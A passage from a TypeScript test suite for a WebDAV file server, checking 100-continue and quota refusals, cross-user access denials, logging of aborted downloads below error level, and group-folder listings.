      ['PUT', `/dav/files/${CAROL}/big.bin`, body, { authorization: t.auth(CAROL) }, 507],
      ['PUT', `${A}/no-parent/c1.txt`, small, { authorization: t.auth(ALICE) }, 409],
      ['PROPPATCH', `/dav/files/${BOB}/x.txt`, small, { authorization: t.auth(ALICE) }, 404],
    ];
    for (const [method, path, content, headers, status] of refused) {
      const res = await expectContinue(t.origin, method, path, content, headers);
      expect(res, `${method} ${path}`).toEqual({ first: status, status });
    }
    expect((await t.dav('GET', `/dav/files/${CAROL}/big.bin`, { user: CAROL })).status).toBe(404);
    const ok = await expectContinue(t.origin, 'PUT', `${A}/c1.txt`, small, { authorization: t.auth(ALICE) });
    expect(ok).toEqual({ first: 100, status: 201 });
    const xml = Buffer.from('<D:propertyupdate xmlns:D="DAV:"><D:set><D:prop><x:p xmlns:x="urn:x">1</x:p></D:prop></D:set></D:propertyupdate>');
    expect(await expectContinue(t.origin, 'PROPPATCH', `${A}/c1.txt`, xml, { authorization: t.auth(ALICE), 'content-type': 'application/xml' })).toEqual({ first: 100, status: 207 });
    expect(await (await t.dav('GET', `${A}/c1.txt`)).text()).toBe('small');
    await directory.updateAccount(carol.id, { quotaBytes: null });
  });

  it('logs aborted downloads, quota refusals and other answers to client mistakes below error level', async () => {
    const { directory } = t.stores;
    const carol = (await directory.findAccount(CAROL))!;
    await directory.updateAccount(carol.id, { quotaBytes: null });
    const big = Buffer.alloc(16 * 1024 * 1024, 'palabre ');
    expect((await t.dav('PUT', `/dav/files/${CAROL}/big.bin`, { body: big, user: CAROL })).status).toBe(201);
    await directory.updateAccount(carol.id, { quotaBytes: big.length + 10 });
    const errors = () => t.log.records.filter((r) => r.level === 'error');
    const before = errors().length;
    const gets = t.log.records.filter((r) => r.event === 'dav.request' && r.fields.method === 'GET').length;
    // A download cut after the first bytes, again and again.
    for (let i = 0; i < 3; i++) {
      const url = new URL(t.origin);
      await new Promise<void>((resolve) => {
        const socket = connect(Number(url.port), url.hostname, () =>
          socket.write(`GET /dav/files/${CAROL}/big.bin HTTP/1.1\r\nHost: ${url.host}\r\nAuthorization: ${t.auth(CAROL)}\r\n\r\n`),
        );
        socket.once('data', () => socket.destroy());
        socket.on('close', () => resolve());
        socket.on('error', () => undefined);
      });
    }
    await answered(t, 'GET', gets + 3);
    // Quota refusals, announced and discovered while streaming; unknown methods; a Destination elsewhere.
    expect((await t.dav('PUT', `/dav/files/${CAROL}/more.bin`, { body: big, user: CAROL })).status).toBe(507);
    const stream = new ReadableStream({
      start(c) {
        for (let i = 0; i < 4; i++) c.enqueue(big.subarray(0, 1024 * 1024));
        c.close();
      },
    });
    expect((await t.dav('PUT', `/dav/files/${CAROL}/more.bin`, { body: stream, user: CAROL })).status).toBe(507);
    expect((await t.dav('MKACTIVITY', `${A}/`)).status).toBe(501);
    expect((await t.dav('COPY', `/dav/files/${CAROL}/big.bin`, { user: CAROL, headers: { destination: 'http://elsewhere.example/dav/x' } })).status).toBe(502);
    expect(errors().slice(before)).toEqual([]);
    expect(t.log.records.filter((r) => r.event === 'dav.request.aborted').length).toBeGreaterThanOrEqual(3);
    await directory.updateAccount(carol.id, { quotaBytes: null });
  });

  it('lists in /dav/files/ the group folders granted to the account itself, not only through its groups', async () => {
    const listing = async (user: string) => hrefs(await (await t.dav('PROPFIND', '/dav/files/', { headers: { depth: '1' }, user })).text());
    expect(await listing(CAROL)).toEqual(['/dav/files/', `/dav/files/${CAROL}/`, `${G}/`]);
    expect(await listing(BOB)).toEqual(['/dav/files/', `/dav/files/${BOB}/`, `${G}/`]);
    expect(await listing(DAN)).toEqual(['/dav/files/', `/dav/files/${DAN}/`]);
    expect((await t.dav('GET', `${G}/plan.txt`, { user: CAROL })).status).toBe(200);
  });
});
